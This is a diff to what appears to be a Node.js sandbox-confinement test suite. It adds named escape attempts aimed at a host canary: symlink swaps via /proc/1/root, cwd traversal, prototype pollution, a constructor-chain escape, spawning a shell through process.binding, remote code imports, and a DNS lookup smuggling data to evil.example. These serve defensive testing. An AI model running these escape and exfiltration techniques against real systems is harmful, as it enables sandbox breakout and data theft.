@@ -3,10 +3,12 @@ import { execFileSync, spawn, spawnSync } from 'node:child_process';
 import dgram from 'node:dgram';
 import dns from 'node:dns/promises';
 import fs from 'node:fs';
+import module, { createRequire } from 'node:module';
 import net from 'node:net';
 import os from 'node:os';
 import path from 'node:path';
 import process from 'node:process';
+import v8 from 'node:v8';
 import vm from 'node:vm';
 import { Worker } from 'node:worker_threads';
 
@@ -111,6 +113,79 @@ const ATTEMPTS = {
     const groups = fs.readdirSync('/sys/fs/cgroup');
     fs.mkdirSync(`/sys/fs/cgroup/${groups[0]}/mine`);
   },
+  'makes a hard link to a file of the host': () => {
+    fs.linkSync(CANARY_FILE, '/tmp/hard');
+    return sawCanary(fs.readFileSync('/tmp/hard', 'utf8'));
+  },
+  'goes up from its working directory by a link of the kernel': () =>
+    sawCanary(fs.readFileSync(`/proc/self/cwd/../../../..${CANARY_FILE}`, 'utf8')),
+  'finds an open file of the hub among its own': () =>
+    sawCanary(
+      fs
+        .readdirSync('/proc/self/fd')
+        .map((fd) => {
+          try {
+            return fs.readlinkSync(`/proc/self/fd/${fd}`);
+          } catch {
+            return '';
+          }
+        })
+        .join(),
+    ),
+  'swaps a link between a check and a use': () => {
+    fs.writeFileSync('/tmp/swap', 'own');
+    fs.statSync('/tmp/swap');
+    fs.rmSync('/tmp/swap');
+    fs.symlinkSync(`/proc/1/root${CANARY_FILE}`, '/tmp/swap');
+    return sawCanary(fs.readFileSync('/tmp/swap', 'utf8'));
+  },
+  'writes its memory beside its code': () => v8.writeHeapSnapshot('/app/memory.heapsnapshot'),
+  'lists what is mounted from the host': () => {
+    const found = fs
+      .readFileSync('/proc/self/mountinfo', 'utf8')
+      .split('\n')
+      .filter((line) => / rw[, ].* - (?:ext4|xfs|btrfs|overlay) .*\brw\b/.test(line) && / \/ rw/.test(line));
+    if (found.length === 0) throw new Error('nothing writable');
+    return found.join();
+  },
+
+  // What it could load
+  'loads a package of the hub': () => sawCanary(String(createRequire('/app/x.js')('dockerode'))),
+  'loads a package from where Node looks last': () => {
+    const found = module.globalPaths?.filter((place) => fs.existsSync(place)) ?? [];
+    if (found.length === 0) throw new Error('none');
+    return found.join();
+  },
+  'brings a package of a registry': async () => (await fetch('https://registry.npmjs.org/left-pad')).text(),
+  'imports code from an address': () => import('https://example.com/x.js'),
+  'starts a package manager': () => execFileSync('npm', ['--version'], QUIET).toString(),
+  'gives a child other flags': () =>
+    sawCanary(
+      execFileSync(process.execPath, ['-p', '1'], {
+        ...QUIET,
+        env: { NODE_OPTIONS: `--require ${CANARY_FILE}` },
+      }).toString(),
+    ),
+
+  // Prototypes
+  'changes what all objects have, for the next one': () => {
+    Object.defineProperty(Object.prototype, 'canary', { value: 'x', configurable: true });
+    const seen = execFileSync(process.execPath, ['-p', '({}).canary'], QUIET).toString();
+    delete Object.prototype.canary;
+    return sawCanary(seen.includes('x') ? 'canary' : '');
+  },
+  'reaches the inside of Node by its constructor': () =>
+    sawCanary(String(process.constructor.constructor('return process.mainModule')()?.filename)),
+  'binds to the inside of Node': () => {
+    const { spawn_sync: inner } = { spawn_sync: process.binding('spawn_sync') };
+    const { status } = inner.spawn({
+      file: '/bin/sh',
+      args: ['sh', '-c', 'exit 0'],
+      stdio: Array.from({ length: 3 }, () => ({ type: 'ignore' })),
+    });
+    if (status !== 0) throw new Error('refused');
+    return 'a shell';
+  },
 
   // Network
   'connects to a port of the host': () => connect({ port: CANARY_PORT, host: '127.0.0.1' }),
@@ -137,6 +212,19 @@ const ATTEMPTS = {
     await new Promise((resolve, reject) => server.on('listening', resolve).on('error', reject));
     server.close();
   },
+  'puts its data into the name it asks for': () =>
+    new dns.Resolver({ timeout: 500, tries: 1 }).resolveTxt(`${'canary'.repeat(5)}.evil.example`),
+  'asks the name server of the machine': () => {
+    const resolver = new dns.Resolver({ timeout: 500, tries: 1 });
+    resolver.setServers(['127.0.0.53', CANARY_ADDRESS]);
+    return resolver.resolve4('canary.example');
+  },
+  'calls out to everybody near by': () => sendUdp(5353, '224.0.0.251'),
+  'makes a socket that the host could find': () =>
+    new Promise((resolve, reject) => {
+      const server = net.createServer().listen('/app/found.sock', () => (server.close(), resolve('made')));
+      server.on('error', reject);
+    }),
 
   // Processes
   'sees a process of the host': () => {
@@ -175,6 +263,22 @@ const ATTEMPTS = {
   'joins the namespaces of another process': () => {
     const done = spawnSync('/usr/bin/nsenter', ['-t', '1', '-n', 'true']);
     if (done.error || done.status !== 0) throw done.error ?? new Error('refused');
+  },
+  'leaves its memory on a disk when it ends': () => {
+    spawnSync(process.execPath, ['-e', 'process.abort()'], { cwd: '/tmp', stdio: 'ignore' });
+    const left = fs.readdirSync('/tmp').filter((name) => name.startsWith('core'));
+    if (left.length === 0) throw new Error('none');
+    return left.join();
+  },
+  'waits until nobody looks, and tries again': async () => {
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    return fs.readFileSync(CANARY_FILE, 'utf8');
+  },
+  'tells others something by how long it works': () => {
+    // Whoever could listen to that would have to be seen from here.
+    const others = fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name) && Number(name) > 60);
+    if (others.length === 0) throw new Error('nobody is there');
+    return others.join();
   },
   'keeps a child after its end': () => {
     spawn(process.execPath, ['-e', 'setInterval(()=>{},1e3)'], { detached: true, stdio: 'ignore' }).unref();
